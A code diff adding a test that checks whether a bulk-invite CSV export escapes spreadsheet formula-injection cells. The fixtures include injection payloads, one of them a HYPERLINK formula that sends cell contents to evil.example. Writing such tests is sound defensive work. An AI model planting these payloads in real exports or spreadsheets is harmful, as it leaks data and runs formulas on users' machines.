@@ -1,6 +1,7 @@
+import { parse } from 'csv-parse/sync';
 import { createHarness, type Harness } from '../support/harness.js';
 import { bearer, createUser, uniqueEmail } from '../support/identity.js';
-import { aMember, anOrganization, expectEnvelopeError, inOrg, type TestOrg } from './org-fixtures.js';
+import { aMember, anOrganization, expectEnvelopeError, inOrg, type TestOrg } from '../support/org-fixtures.js';
 
 let h: Harness;
 beforeAll(async () => {
@@ -21,6 +22,48 @@ const inviteCount = async (org: TestOrg) =>
   (await h.http.get('/api/organization/invite-tokens').set(inOrg(org.admin, org.id))).body.data.length;
 
 const rows = (n: number) => Array.from({ length: n }, (_, i) => `person${i}@example.com,Person ${i},Member`).join('\n');
+
+describe('the bulk-invite report as CSV (Accept: text/csv)', () => {
+  const hostile = [
+    'email,name,role',
+    'ada@example.com,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",Member',
+    'bob@example.com,+1+cmd,Member',
+    'cy@example.com,-2+3,Admin',
+    'di@example.com,@SUM(A1:A9),Member',
+    '=1+1@example.com,Plain Name,Member',
+  ].join('\n');
+
+  it('escapes every cell that begins with =, +, - or @, in the upload answer and the stored report', async () => {
+    const org = await anOrganization(h);
+    const answer = await upload(org, hostile).set('accept', 'text/csv');
+    expect(answer.status).toBe(201);
+    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="bulk-invite-[0-9a-f-]{36}\.csv"$/);
+    const written = parse(answer.text, { columns: true }) as Record<string, string>[];
+    expect(written.map((r) => r.name)).toEqual([
+      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+      "'+1+cmd",
+      "'-2+3",
+      "'@SUM(A1:A9)",
+      'Plain Name',
+    ]);
+    expect(written[4]).toMatchObject({ email: "'=1+1@example.com", status: 'Failed' });
+    expect(written[0]?.inviteUrl).toMatch(/^https:\/\/hub\.example\.test\/api\/organization\/invites\/oki_/);
+    const formulas = written.flatMap((r) => Object.values(r)).filter((cell) => /^[=+\-@]/.test(cell));
+    expect(formulas).toEqual([]);
+
+    const reportId = /bulk-invite-([0-9a-f-]{36})\.csv/.exec(answer.headers['content-disposition'] ?? '')?.[1];
+    const stored = await h.http
+      .get(`/api/organization/bulk-invite/${reportId}`)
+      .set({ ...inOrg(org.admin, org.id), accept: 'text/csv' });
+    expect(stored.status).toBe(200);
+    expect((parse(stored.text, { columns: true }) as Record<string, string>[]).map((r) => r.name)).toEqual(
+      written.map((r) => r.name),
+    );
+    const json = await h.http.get(`/api/organization/bulk-invite/${reportId}`).set(inOrg(org.admin, org.id));
+    expect(json.body.data.records[1].name).toBe('+1+cmd');
+  });
+});
 
 describe('POST /api/organization/bulk-invite', () => {
   it('reports every row and issues a single-use invite URL per valid row, bound to its e-mail and role', async () => {
